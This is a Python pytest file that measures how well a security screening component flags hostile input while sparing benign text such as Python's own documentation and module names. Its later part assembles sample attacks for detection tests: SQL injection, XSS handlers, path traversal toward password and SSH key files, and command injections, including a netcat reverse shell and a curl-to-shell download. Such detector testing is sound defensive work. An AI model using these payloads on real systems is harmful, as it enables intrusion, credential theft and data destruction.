"""What the rules refuse of the corpora, and of what every Python brings along: detection, and false alarms."""

import inspect
import itertools
import pkgutil
import pydoc_data.topics
import sysconfig
from pathlib import Path

import pytest

from tests.corpora import items
from tests.screening_rates import CORPORA, TYPED, TYPED_BAR, is_harmless, plain, share, untrusted
from toolpost.security.rules import Screen

PLAIN_MARGIN = 0.03
"""How much less may be found where text goes nowhere dangerous."""


@pytest.mark.parametrize("corpus", [c for c in CORPORA if c.bar is not None], ids=lambda c: c.name)
@pytest.mark.parametrize("judge", [plain, untrusted])
def test_the_bar_of_a_corpus_is_held(corpus, judge):
    refused = share(judge(), items(corpus.name))

    if corpus.attacks:  # the bars have two digits
        assert round(refused, 2) >= corpus.bar - (PLAIN_MARGIN if judge is plain else 0.0), f"{refused:.4f}"
    else:
        assert refused <= corpus.bar, f"{refused:.4f}"


@pytest.mark.parametrize(("role", "pattern"), TYPED)
def test_what_is_not_refused_in_a_typed_role_can_do_no_harm_there(role, pattern):
    judge = Screen(role, "medium").check
    texts = items(pattern)

    passed = [text for text in texts if not judge(text) and not is_harmless(role, text)]

    assert len(passed) <= (1 - TYPED_BAR) * len(texts), passed[:20]


@pytest.mark.parametrize(
    ("role", "text"),
    [
        *[
            ("identifier", text)
            for text in ("a|id", "/etc/passwd", "a..b", "javascript:x", "a//b", "1--2--", "a b", "a'", "~a")
        ],
        *[("identifier", text) for text in ("a\uff07b", "-rf", "")],
        *[("path", text) for text in ("~/x", "/x", "a/../../b", "file:///x", "c:x", "%2e%2e/x", "..\\x", "a/.. /../x")],
        *[
            ("url", text)
            for text in ("http://localhost/", "javascript:x", "http://a@b.test/", "http://127.1/", "//a.test/")
        ],
        *[
            ("url", text)
            for text in ("http://a.internal/", "http://a\\b.test/", "file:///x", "http://0x7f.1/", "http://db/")
        ],
    ],
)
def test_the_oracle_calls_nothing_harmless_that_may_do_harm(role, text):
    assert not is_harmless(role, text)


def test_no_path_and_hardly_a_public_address_is_refused_in_its_own_role():
    assert share(Screen("path", "medium").check, items("ben_paths")) <= 0.002
    inner = ("localhost", "127.0.0.1", "192.168.", "10.", "0.0.0.0", "[::1]", "172.1", "172.2", "172.3")
    public = [url for url in items("ben_urls") if not any(f"/{host}" in url or f"@{host}" in url for host in inner)]
    assert share(Screen("url", "medium").check, public) <= 0.01


# -- what needs no corpora ---------------------------------------------------------------------------------------------


def documentation():
    """The paragraphs of Python's own documentation: prose with code in it."""
    for topic in pydoc_data.topics.topics.values():
        yield from (part for part in topic.split("\n\n") if part.strip())


def docstrings():
    for name in ("string", "os", "json", "sqlite3", "subprocess", "html", "shlex", "urllib.request", "argparse", "re"):
        module = __import__(name, fromlist=["_"])
        for _, member in inspect.getmembers(module):
            if isinstance(text := inspect.getdoc(member), str):
                yield text


def library_paths():
    root = Path(sysconfig.get_paths()["stdlib"])
    yield from (path.relative_to(root).as_posix() for path in itertools.islice(root.rglob("*.py"), 2000))


def module_names():
    yield from sorted(module.name for module in pkgutil.iter_modules())


@pytest.mark.parametrize("judge", [plain, untrusted])
@pytest.mark.parametrize(("texts", "bar"), [(documentation, 0.004), (docstrings, 0.004), (module_names, 0.0)])
def test_hardly_a_text_that_python_brings_along_is_refused(texts, bar, judge):
    found = list(texts())

    assert len(found) > 200
    assert share(judge(), found) <= bar


def test_no_path_of_the_standard_library_is_refused_as_one():
    assert share(Screen("path", "medium").check, list(library_paths())) == 0


def test_no_name_of_a_module_is_refused_as_an_identifier():
    assert share(Screen("identifier", "medium").check, list(module_names())) == 0


QUOTES = ("'", '"', "')", '")', "' ", "';")
TAILS = (
    "OR 1=1 --",
    "or 'a'='a",
    "UNION SELECT name, pass FROM members --",
    "; DROP TABLE orders; --",
    "AND 1=(SELECT COUNT(*) FROM staff) --",
    "; EXEC xp_cmdshell('dir') --",
    "AND SLEEP(5)#",
)
TAGS = ("script", "svg", "img", "iframe", "body", "video", "details")
HANDLERS = (
    "onload=alert(1)",
    "onerror=alert(document.cookie)",
    "ontoggle=fetch('//x.test')",
    "src=javascript:alert(1)",
)
CLIMBS = ("../", "..\\", "%2e%2e%2f", "..%2f", "%252e%252e%252f", "..%c0%af", "....//")
GOALS = ("etc/passwd", "windows/win.ini", "proc/self/environ", "root/.ssh/id_rsa")
COMMANDS = ("; cat /etc/passwd", "| nc -e /bin/sh 192.0.2.1 4444", "`curl http://x.test/a.sh | sh`", "&& rm -rf /")


def attacks():
    yield from (f"{word}{quote} {tail}" for word in ("", "7", "ann") for quote in QUOTES for tail in TAILS)
    yield from (f"<{tag} {handler}>" for tag in TAGS for handler in HANDLERS)
    yield from (f"{climb * depth}{goal}" for climb in CLIMBS for depth in (3, 6) for goal in GOALS)
    yield from (f"{word}{command}" for word in ("x", "report.txt", "127.0.0.1") for command in COMMANDS)


def test_attacks_made_of_parts_are_found_in_text_that_goes_somewhere_dangerous():
    made = list(attacks())

    assert len(made) > 200
    assert share(untrusted(), made) >= 0.95


@pytest.mark.parametrize(
    "encode", [str, lambda t: "".join(f"%{b:02x}" for b in t.encode()), lambda t: t.replace("<", "&lt;")]
)
def test_an_encoding_hides_no_attack(encode):
    made = [f"<{tag} {handler}>" for tag in TAGS for handler in HANDLERS]

    assert share(untrusted(), [encode(text) for text in made]) >= 0.95
